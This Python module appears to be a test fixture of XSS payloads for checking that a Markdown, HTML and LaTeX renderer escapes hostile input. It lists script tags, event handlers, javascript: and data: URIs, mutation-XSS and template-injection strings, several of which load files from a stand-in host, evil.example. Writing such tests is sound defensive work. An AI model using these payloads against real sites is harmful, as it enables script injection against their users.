"""Hostile texts: each would run a script, or fetch something, if a page printed it as it is.

They call `alert(1)`, so that one hook finds all of them.  `/pixel.png` is a file that the site under test has.
"""

# ruff: noqa: E501 - payloads stand side by side

_HANDLERS = (
    "onload", "onerror", "onclick", "onmouseover", "onmouseenter", "onfocus", "onblur", "onpointerover", "onwheel",
    "onanimationstart", "ontransitionend", "ontoggle", "onscroll", "onpaste", "oncopy", "onkeydown", "onsubmit", "onbeforetoggle",
    "onfocusin", "ONCLICK", "OnClick", "onbeforematch", "onscrollend", "oncontentvisibilityautostatechange",
)  # fmt: skip
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "javascript\n:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)", "javascript&#x3A alert(1)", "&#106;avascript:alert(1)", "&#0000106avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)", "java&#9;script:alert(1)", "java&#x0D;script:alert(1)", "&#1;javascript:alert(1)",
    "&#x20;javascript:alert(1)", "javascript://%0aalert(1)", "javascript://example.org/%0Aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/", "javascript:\\u0061lert(1)",
    "javascript&colon;/**/alert(1)", "vbscript:alert(1)", "livescript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:text/html,<svg/onload=alert(1)>",
    "data:image/svg+xml,<svg onload='alert(1)' xmlns='http://www.w3.org/2000/svg'/>", "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)", "jar:javascript:alert(1)", "blob:https://evil.example/1", "filesystem:https://evil.example/",
    "file:///etc/passwd", "//evil.example/", "\\\\evil.example\\", "/\\evil.example/", "https:evil.example", "https:/evil.example",
    "http://user:pass@evil.example/", "javascript\u200b:alert(1)", "\u2028javascript:alert(1)", "javascript%3Aalert(1)",
    "\u202ejavascript:alert(1)", "about:blank", "intent://evil.example#Intent;scheme=https;end", "ms-word:ofe|u|https://evil.example",
)  # fmt: skip
_TAGS = (
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//evil.example/a.js></script>",
    "<script/src='data:,alert(1)'></script>", "<script>alert(1)", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>", "<script type=module>alert(1)</script>", "<script>alert`1`</script>", "</script><script>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<script x>alert(1)</script y>", "<script>//\u2028alert(1)</script>", "<%00script>alert(1)</script>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script>alert&#40;1)</script></svg>",
    "<svg><script href='data:,alert(1)'/></svg>", "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onload to=alert(1)></svg>", "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></foreignObject></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>", "<svg><desc><script>alert(1)</script></desc></svg>",
    "<svg><image href=x onerror=alert(1)></svg>", "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>alert(1)</handler></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#javascript:alert(1)'>x</maction></math>", "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>", "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<style><p title='</style><img src=x onerror=alert(1)>'></style>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>", "<noframes><img title='</noframes><img src=x onerror=alert(1)>'>",
    "<iframe><img title='</iframe><img src=x onerror=alert(1)>'></iframe>", "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><img src=/pixel.png onload=alert(1)></template>", "<plaintext><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<iframe srcdoc='&lt;img src=x onerror=parent.alert(1)&gt;'>",
    "<iframe onload=alert(1)></iframe>", "<iframe src=//evil.example></iframe>", "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>", "<object data='data:text/html,<script>alert(1)</script>'></object>", "<embed src=javascript:alert(1)>",
    "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>", "<applet code=javascript:alert(1)>", "<base href=javascript:alert(1)//><a href=x>x</a>",
    "<base href=//evil.example/>", "<base target='alert(1)'>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=set-cookie content=a=b>", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<link rel=stylesheet href='data:text/css,*{x:expression(alert(1))}'>",
    "<link rel=stylesheet href=//evil.example/a.css>", "<link rel=prefetch href=//evil.example/a>", "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<link rel=preload as=script href=//evil.example/a.js>", "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import '//evil.example/a.css';</style>", "<style>body{background:url(//evil.example/a.png)}</style>", "<style>*{animation:a} @keyframes a{}</style><b onanimationstart=alert(1)>x</b>",
    "<p style='background:url(//evil.example/a.png)'>x</p>", "<p style='width:expression(alert(1))'>x</p>", "<p style=\"-moz-binding:url('//evil.example/a.xml#a')\">x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>", "<p style='behavior:url(#default#time2)' onbegin=alert(1)>x</p>",
    "<form action=javascript:alert(1)><input type=submit></form>", "<form><button formaction=javascript:alert(1)>x</button></form>", "<form id=a></form><button form=a formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>", "<input type=image src=x onerror=alert(1)>", "<isindex action=javascript:alert(1) type=image>", "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>", "<keygen autofocus onfocus=alert(1)>", "<button popovertarget=a>x</button><b popover id=a onbeforetoggle=alert(1)>y</b>",
    "<video><source onerror=alert(1)></video>", "<video src=x onerror=alert(1)></video>", "<video poster=javascript:alert(1)></video>", "<audio src=x onerror=alert(1)></audio>",
    "<audio autoplay src=//evil.example/a.mp3></audio>", "<track default src=//evil.example/a.vtt>", "<bgsound src=javascript:alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>", "<body background=//evil.example/a.png>", "<html onmouseover=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<details/open/ontoggle=alert(1)>",
    "<dialog open onclose=alert(1)>x</dialog>", "<img src=/pixel.png onload=alert(1) alt=a>", "<img/src=/pixel.png/onload=alert(1)>", "<img src='/pixel.png'onload=alert(1) alt=a>",
    "<img src=/pixel.png srcset='//evil.example/a.png 2x' alt=a>", "<img src=/pixel.png alt=a lowsrc=//evil.example/a.png>", "<img dynsrc=javascript:alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">", "<image src=/pixel.png onload=alert(1) alt=a>", "<picture><source srcset=//evil.example/a.png><img src=/pixel.png alt=a></picture>",
    "<table background=javascript:alert(1)><td>x</table>", "<table><td background=//evil.example/a.png>x</table>", "<a ping=//evil.example/ href=/>x</a>", "<a href=/ target=_blank onclick=alert(1)>x</a>",
    "<a href=\"/\" on&#99;lick=alert(1)>x</a>", "<a\x0conclick=alert(1) href=/>x</a>", "<b\nonclick\n=\nalert(1)>x</b>", "<b onclick='alert(1)'\x00>x</b>",
    "<b title=\"a\" \"onclick=alert(1)\" onclick=alert(1)>x</b>", "<b title='`' onclick=alert(1) `>x</b>", "<b title=`onclick=alert(1)`>x</b>", "<b class='a' class='\"onclick=alert(1)'>x</b>",
    "<b id='\"><script>alert(1)</script>'>x</b>", "<b title='&quot;><script>alert(1)</script>'>x</b>", "<b title='&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;'>x</b>",
    "<area href=javascript:alert(1)>x", "<map name=a><area shape=default href=javascript:alert(1)></map><img usemap=#a src=/pixel.png alt=a>", "<xss onclick=alert(1)>x</xss>", "<x-y onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>x</x-y>",
    "<?xml-stylesheet href='javascript:alert(1)'?>", "<!DOCTYPE html [<!ENTITY a '<script>alert(1)</script>'>]>&a;", "<![CDATA[<script>alert(1)</script>]]>", "<!--><script>alert(1)</script>-->", "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">", "]]><script>alert(1)</script>", "--><script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</head><script>alert(1)</script>", "\" onclick=alert(1) x=\"", "' onclick=alert(1) x='", "` onclick=alert(1) x=`", "x onmouseover=alert(1)", "\" autofocus onfocus=alert(1) \"", "\"/><svg onload=alert(1)>",
    "\\\";alert(1);//", "';alert(1);//", "${alert(1)}", "{{ 7*7 }}{{ ''.__class__ }}", "{% set a = alert %}{{ a(1) }}", "{{constructor.constructor('alert(1)')()}}", "{# comment #}", "<%= alert(1) %>", "#{alert(1)}", "\u2028alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "\\x3cscript\\x3ealert(1)", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u02bcsvg onload=alert(1)", "\u202e<script>alert(1)</script>",
    "\x1a0\x1b<b>", "\x02\" onclick=alert(1) ", "klzzwxh:0000<script>alert(1)</script>", "wzxhzdk:0<script>alert(1)</script>",
)  # fmt: skip
_MARKDOWN = (
    "*a*{: onclick=alert(1) }", "*a*{: style=background:url(//evil.example) }", "[a](/){: onclick='alert(1)' }", "![a](/pixel.png){: onload=alert(1) }", "a\n{: onmouseover=alert(1) #\"onclick=alert(1) }", "# a {: onclick=alert(1) }",
    "# <script>alert(1)</script>", "# <img src=/pixel.png onload=alert(1) alt=a> {: #a }", "- a {: onclick=alert(1) }", "| a {: onclick=alert(1) } |\n|---|\n| <svg onload=alert(1)> |", "``` {.a onclick=alert(1)}\nb\n```", "```\"><script>alert(1)</script>\nb\n```", "```html\n<script>alert(1)</script>\n```", "    <script>alert(1)</script>", "`<script>alert(1)</script>`",
    "a[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: b", "a[^1]\n\n[^1]: <img src=/pixel.png onload=alert(1) alt=a>", "a[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: b", "[a]: javascript:alert(1)\n\n[a]", "[a]: <javascript:alert(1)> 'b'\n\n[a] ![a][]", "[a]: /pixel.png \"' onclick=alert(1) '\"\n\n[a] ![a][]", "[a](/ \"\\\" onclick=alert(1) \\\"\")", "[a](/ '\"><script>alert(1)</script>')",
    "[<script>alert(1)</script>](/)", "[a](<javascript:alert(1)>)", "[a](\\javascript:alert(1))", "[a](javascript\\:alert(1))", "[a](&#106;avascript:alert(1) 'b')", "<javascript:alert(1)>", "<javascript://a%0aalert(1)>", "<data:text/html,a>", "<mailto:a@b.example\" onclick=alert(1)>", "<a@b.example'onclick='alert(1)>", "![\"onload=\"alert(1)](/pixel.png)", "![a](/pixel.png \"' onload=alert(1) '\")", "![a](javascript:alert(1))", "![a](data:image/svg+xml,<svg/onload=alert(1)>)", "[![a](/pixel.png)](javascript:alert(1))", "![<img src=x onerror=alert(1)>](/pixel.png)",
    "[a](/#\" onclick=alert(1))", "[a](#<script>alert(1)</script>)", "https://example.org/\"onclick=alert(1)", "https://example.org/<script>alert(1)</script>", "https://example.org/'onclick='alert(1)", "https://a.example/$x$\"onclick=alert(1)", "a ``<script>alert(1)</script>'' b", "Term <script>alert(1)</script>\n:   <svg onload=alert(1)>", "> <script>alert(1)</script>", "1. <script>\n   alert(1)\n   </script>", "<div markdown=1><script>alert(1)</script></div>", "<b title='$x$\" onclick=alert(1) '>a</b>", "<b title=\"``\" onclick=alert(1) ''\">a</b>", "<b title=\"https://a.example/\" onclick=alert(1)\">a</b>",
)  # fmt: skip
_FORMULAS = (
    "$\\href{javascript:alert(1)}{x}$", "$\\url{javascript:alert(1)}$", "$\\text{<img src=x onerror=alert(1)>}$", "$\\text{</math><script>alert(1)</script>}$", "$\\mbox{\"><svg onload=alert(1)>}$", "$\\operatorname{<script>alert(1)</script>}$", "$\\unicode{x3c}script\\unicode{x3e}$", "$\\unicode{60}$script$\\unicode{62}$alert(1)", "$\\html{<b onclick=alert(1)>}$", "$\\htmlStyle{background:url(//evil.example)}{x}$", "$\\htmlClass{\" onclick=alert(1)}{x}$", "$\\class{\"onclick=alert(1)}{x}$", "$\\style{onclick:alert(1)}{x}$", "$\\cssId{a}{x}$",
    "$\\includegraphics{//evil.example/a.png}$", "$\\color{red\" onclick=\"alert(1)}{x}$", "$\\textcolor{\"onclick=alert(1)}{x}$", "$\\newcommand{\\a}{<script>alert(1)</script>}\\a$", "$\\def\\a{\\href{javascript:alert(1)}{x}}\\a$", "$x\" onclick=\"alert(1)$", "$x' onclick='alert(1)$", "$<script>alert(1)</script>$", "$\\text{&lt;script&gt;}$", "$\\tag{<script>alert(1)</script>} x$", "$\\begin{array}{\"onclick=alert(1)}a\\end{array}$", "$\\label{\"onclick=alert(1)} x$", "$\\mathrm{]]></math><script>alert(1)</script>}$", "\\(\\text{<iframe srcdoc='<script>parent.alert(1)</script>'>}\\)", "$$\\text{--><script>alert(1)</script>}$$", "$\\begin{<script>}\\end{<script>}$", "$\\foo<script>alert(1)</script>$",
)  # fmt: skip

VECTORS: tuple[str, ...] = (
    *_TAGS,
    *_MARKDOWN,
    *_FORMULAS,
    *(f"<b {name}=alert(1) tabindex=0>a</b>" for name in _HANDLERS),
    *(f"<img src=/pixel.png alt=a {name}=alert(1)>" for name in _HANDLERS[:8]),
    *(f"[a]({address})" for address in _SCHEMES),
    *(f'<a href="{address}">a</a>' for address in _SCHEMES),
)
ADDRESSES: tuple[str, ...] = _SCHEMES
